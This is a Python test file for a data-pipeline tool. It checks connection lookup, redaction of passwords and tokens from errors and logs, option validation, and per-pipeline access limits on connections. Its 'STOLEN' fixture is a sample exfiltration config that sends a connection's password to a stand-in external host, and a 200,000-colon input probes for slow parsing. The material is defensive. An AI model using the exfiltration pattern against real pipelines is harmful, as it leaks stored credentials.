"""Connections by name: where they are found, and that nothing shows their secrets."""

from __future__ import annotations

import json
import logging
import time
from pathlib import Path

import pytest
from pydantic import SecretStr
from tests.support.marked import said

from waybill.errors import InputError, RetryError
from waybill.ingestion.connectors import Connection, Connections, open_connector
from waybill.pipelines import DeclarationError, Source, load_pipeline
from waybill.settings import Settings, secret_values

CANARY = "c4n4ry-p4ssw0rd"
URI = f"postgres://ann:{CANARY}@127.0.0.1:1/shop?sslmode=disable&api_token=t0k-{CANARY}"


def test_a_uri_and_json_say_the_same():
    of_uri = Connection.parse("x", "postgresql://an%40n:p%2Fw@db.example:5433/shop?sslmode=require")
    of_json = Connection.parse(
        "x",
        json.dumps(
            {
                "conn_type": "postgres",
                "host": "db.example",
                "port": "5433",
                "login": "an@n",
                "password": "p/w",
                "schema": "shop",
                "extra": '{"sslmode": "require"}',
            }
        ),
    )
    assert of_uri == of_json
    assert of_uri.kind == "postgres"


def test_settings_come_before_the_callers_look_up_and_that_before_the_environment(monkeypatch):
    monkeypatch.setenv("AIRFLOW_CONN_SHOP", "postgres://environment/x")
    assert Connections().find("shop").host == "environment"
    looked = Connections(lookup={"shop": "postgres://lookup/x"}.get)
    assert looked.find("shop").host == "lookup"
    given = Connections({"SHOP": SecretStr("postgres://settings/x")}, looked.find)
    assert given.find("shop").host == "settings"
    with pytest.raises(InputError, match="no connection 'other'.*AIRFLOW_CONN_OTHER"):
        looked.find("other")


def test_settings_take_connections_by_name_and_know_them_for_secrets(monkeypatch):
    monkeypatch.setenv("WAYBILL_SOURCES__CONNECTIONS__SHOP", URI)
    settings = Settings(_env_file=None)
    assert Connections(settings.sources.connections).find("shop").login == "ann"
    assert CANARY in secret_values(settings)
    assert CANARY not in repr(settings)


@pytest.mark.parametrize(
    "text", [f"postgres://a:{CANARY}:{CANARY}@h:x/db", f"{{{CANARY}", f"{CANARY}", "{}", "[]"]
)
def test_one_that_cannot_be_read_is_not_quoted(text):
    with pytest.raises(InputError, match="connection 'shop' cannot be read") as caught:
        Connection.parse("shop", text)
    assert CANARY not in said(caught.value)


def test_nothing_that_a_connection_is_shown_by_has_its_secrets():
    found = Connection.parse("shop", URI)
    assert CANARY not in f"{found!r} {found} {found.password!r}"
    assert found.hide(f"failed for {CANARY} and t0k-{CANARY}") == "failed for *** and ***"


def test_a_server_that_does_not_answer_is_told_without_a_secret(tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    source = Source(
        connector="sql", event="e", connection="shop", options={"table": "t", "key": ["id"]}
    )
    connector = open_connector(source, tmp_path, connections=Connections({"shop": SecretStr(URI)}))
    with pytest.raises(RetryError, match="source table 't'") as caught:
        list(connector.read(None))
    assert CANARY not in said(caught.value)
    assert CANARY not in caplog.text


@pytest.mark.parametrize("options", [{"table": URI}, {"table": "t", "columns": [URI]}])
def test_an_option_with_a_login_is_refused_and_not_quoted(tmp_path, options):
    source = Source(connector="sql", event="e", connection="shop", options=options)
    with pytest.raises(InputError, match="do not belong into a declaration") as caught:
        open_connector(source, tmp_path)
    assert CANARY not in said(caught.value)


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({"tabel": "t"}, "source.options.tabel: there is no such option.*did you mean 'table'"),
        ({"table": 5}, "source.options.table: expected the name of a table or view.*found 5"),
        ({}, "source.options.table: expected the name of a table.*it is missing"),
        ({"table": "t", "overlap": -1}, "source.options.overlap: expected seconds.*found -1"),
        ({"table": "t", "overlap": 5}, "no cursor to step back from"),
        ({"table": "t", "file": "x.db"}, "expected a connection.*found both"),
    ],
)
def test_wrong_options_are_told_before_anything_is_read(tmp_path, options, expected):
    source = Source(connector="sql", event="e", connection="shop", options=options)
    with pytest.raises(InputError, match=expected):
        open_connector(source, tmp_path)


@pytest.mark.parametrize(
    ("connector", "field", "value"),
    [("sql", "columns", {"id": "int64"}), ("sql", "order_by", ("id",)), ("files", "path", "x.csv")],
)
def test_what_a_connector_has_no_use_for_is_refused(tmp_path, connector, field, value):
    source = Source(connector=connector, event="e", options={}, **{field: value})
    with pytest.raises(InputError, match=f"source.{field}: connector '{connector}' has no use"):
        open_connector(source, tmp_path)


def test_a_source_without_the_connection_it_needs_is_refused(tmp_path):
    source = Source(connector="files", event="e", options={"path": "s3://bucket/*.csv"})
    with pytest.raises(InputError, match="source.connection: connector 'files' needs one"):
        open_connector(source, tmp_path)


def test_a_declaration_keeps_a_connections_name_and_nested_options(tmp_path: Path):
    folder = tmp_path / "orders"
    folder.mkdir()
    (folder / "transformation.py").write_text("def transform(event):\n    return event\n")
    text = """
id: orders-0001
name: orders
team: shop
owner: shop@example.com
source: {connector: sql, connection: shop_db, event: order, options: {table: o, columns: [id, at]}}
events: {order: {key: [id], table: orders, columns: {id: int64}}}
destination: {name: warehouse, schema: shop}
"""
    (folder / "pipeline.yaml").write_text(text)
    source = load_pipeline(folder).source
    assert (source.connection, source.options["columns"]) == ("shop_db", ["id", "at"])
    (folder / "pipeline.yaml").write_text(text.replace("shop_db", "'shop/db'"))
    with pytest.raises(DeclarationError, match="source.connection"):
        load_pipeline(folder)


def test_an_option_of_many_colons_is_looked_at_in_no_time(tmp_path):
    options = {"table": "://" + ":" * 200_000}
    source = Source(connector="sql", event="e", connection="shop", options=options)
    began = time.process_time()
    with pytest.raises(InputError):
        open_connector(source, tmp_path)
    assert time.process_time() - began < 20


STOLEN = {
    "client": {"base_url": "https://collects.example.net/"},
    "resources": [{"name": "e", "endpoint": {"params": {"k": "${connection.password}"}}}],
}


@pytest.mark.parametrize(
    "lookup", [{"tracker": f"postgres://waybill:{CANARY}@db/waybill"}.get, None]
)
@pytest.mark.parametrize(
    ("connector", "options"),
    [
        ("dlt", {"rest_api": STOLEN}),
        ("singer", {"tap": "any", "discover": False, "config": {"k": "${connection.password}"}}),
        ("sql", {"table": "t", "key": ["id"]}),
    ],
)
def test_a_declaration_cannot_use_a_connection_of_the_platform_that_does_not_name_it(
    tmp_path, monkeypatch, lookup, connector, options
):
    monkeypatch.setenv("AIRFLOW_CONN_TRACKER", f"postgres://waybill:{CANARY}@db/waybill")
    source = Source(connector=connector, event="e", connection="tracker", options=options)
    folder = tmp_path / "mine"
    folder.mkdir()
    opened = open_connector(source, folder, connections=Connections({}, lookup))
    with pytest.raises(InputError, match="'tracker' is not open to pipeline 'mine'") as caught:
        list(opened.read(None))
    assert CANARY not in said(caught.value)


@pytest.mark.parametrize(
    "text",
    [
        "http://h?waybill_pipelines=orders,%20shop",
        '{"conn_type": "http", "extra": {"waybill_pipelines": ["orders", "shop"]}}',
        '{"conn_type": "http", "extra": "{\\"waybill_pipelines\\": \\"orders, shop\\"}"}',
    ],
)
def test_a_connection_is_open_to_the_pipelines_that_it_names_and_to_no_others(text):
    for found in (Connections({"c": SecretStr(text)}).find("c"), Connection.parse("c", text)):
        found.require_open_to("orders")
        found.require_open_to("shop")
        with pytest.raises(InputError, match="is not open to pipeline 'order'"):
            found.require_open_to("order")
        assert "waybill_pipelines" not in found.extra


def test_one_of_the_settings_is_open_to_all_unless_it_says_otherwise():
    Connections({"c": SecretStr("http://h")}).find("c").require_open_to("any")
    Connection.parse("c", "http://h?waybill_pipelines=*").require_open_to("any")
    with pytest.raises(InputError, match="is not open"):
        Connection.parse("c", "http://h").require_open_to("any")


def test_a_secret_is_hidden_as_a_url_has_it_too():
    found = Connection.parse("shop", "http://ann:p%40ss%20w%2Frd@h")
    for shown in ("p@ss w/rd", "p%40ss%20w%2Frd", "p%40ss+w%2Frd"):
        assert found.hide(f"GET http://ann:{shown}@h failed") == "GET http://ann:***@h failed"
